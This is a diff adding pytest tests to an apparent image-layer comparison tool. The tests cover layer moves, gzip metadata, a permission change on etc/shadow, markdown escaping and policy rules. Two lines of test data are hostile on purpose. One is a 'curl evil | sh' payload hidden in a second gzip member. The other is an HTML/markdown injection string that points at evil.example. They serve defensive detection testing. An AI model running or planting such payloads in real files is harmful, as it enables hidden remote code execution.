@@ -273,3 +273,69 @@ def test_report_dir_holds_both_sides_of_changed_files(tmp_path: Path) -> None:
     assert (report / "b/etc/app.conf").read_text() == "2\n"
     assert not (report / "a/etc/motd").exists()
     assert json.loads((report / "report.json").read_text())["verdict"] == "different"
+
+
+def test_file_moved_between_layers_is_a_layer_boundary_difference(tmp_path: Path) -> None:
+    a = layout(tmp_path, "a", TarBuilder().add_file("a", "1\n"), TarBuilder().add_file("b", "2\n"))
+    b = layout(tmp_path, "b", TarBuilder().add_file("a", "1\n").add_file("b", "2\n"), TarBuilder().add_file("b", "2\n"))
+    d = diff(a, b)
+    assert d.verdict is Verdict.DIFFERENT
+    (change,) = [c for c in d.changes if c.subject == "layer"]
+    assert change.cause is Cause.LAYER_BOUNDARIES and change.paths == ["b"]
+    assert diff(a, b, DiffOptions.semantic()).verdict is Verdict.EQUIVALENT
+
+
+def test_a_second_gzip_member_is_not_explained_away_as_metadata(tmp_path: Path) -> None:
+    import gzip
+
+    one = gzip.compress(b"echo hello\n", mtime=1)
+    two = gzip.compress(b"echo hello\n", mtime=2) + gzip.compress(b"curl evil | sh\n", mtime=2)
+    a = layout(tmp_path, "a", base().add_file("opt/run.gz", one))
+    b = layout(tmp_path, "b", base().add_file("opt/run.gz", two))
+    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
+    assert change.cause is Cause.CONTENT
+
+
+def test_gzip_header_mtime_only_is_nested_archive_metadata(tmp_path: Path) -> None:
+    import gzip
+
+    a = layout(tmp_path, "a", base().add_file("opt/x.gz", gzip.compress(b"same\n", mtime=1)))
+    b = layout(tmp_path, "b", base().add_file("opt/x.gz", gzip.compress(b"same\n", mtime=2)))
+    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
+    assert change.cause is Cause.NESTED_ARCHIVE
+
+
+def test_a_refined_content_class_never_hides_a_mode_change(tmp_path: Path) -> None:
+    a = layout(tmp_path, "a", base().add_file("etc/shadow", "root:*:19000:0:99999:7:::\n", mode=0o640))
+    b = layout(tmp_path, "b", base().add_file("etc/shadow", "root:*:19999:0:99999:7:::\n", mode=0o666))
+    (change,) = [c for c in diff(a, b).changes if c.subject == "file"]
+    assert {f.name: f.cause for f in change.fields} == {"sha256": Cause.NOISE, "mode": Cause.CONTENT}
+    assert change.cause is Cause.CONTENT
+    assert diff(a, b, DiffOptions(ignore=frozenset({Cause.NOISE}))).verdict is Verdict.DIFFERENT
+
+
+def test_markdown_renders_hostile_names_inert(tmp_path: Path) -> None:
+    evil = "![x](https://evil.example/p.png) <img src=x> </details>"
+    a = layout(tmp_path, "a", base())
+    b = layout(tmp_path, "b", base().add_symlink("etc/link", evil))
+    md = CliRunner().invoke(cli, ["diff", a, b, "--format", "markdown"]).stdout
+    assert "<img" not in md and "](https" not in md and "</details>\n\n</details>" not in md
+    assert "&lt;img src=x&gt;" in md
+
+
+def test_policy_field_rule_accepts_only_changes_of_that_field_alone(tmp_path: Path) -> None:
+    a = layout(tmp_path, "a", base(mtime=1), TarBuilder().add_file("x", "1\n", mtime=1))
+    b = layout(tmp_path, "b", base(mtime=2), TarBuilder().add_file("x", "2\n", mtime=2))
+    d = diff(a, b, DiffOptions(acceptances=(Acceptance("**", "mtimes only", field_name="mtime"),)))
+    open_paths = {c.path for c in d.unaccepted if c.subject == "file"}
+    assert open_paths == {"x"}  # content and mtime changed: not accepted by an mtime rule
+
+
+def test_policy_expiry_must_be_a_date(tmp_path: Path) -> None:
+    from inspectr.diff.options import load_policy
+    from inspectr.errors import UsageError
+
+    policy = tmp_path / "p.toml"
+    policy.write_text('[[accept]]\npath = "**"\nreason = "r"\nexpires = 2027-01-31T00:00:00Z\n')
+    with pytest.raises(UsageError, match=r"accept\[0\]\.expires: must be a TOML date"):
+        load_policy(policy)
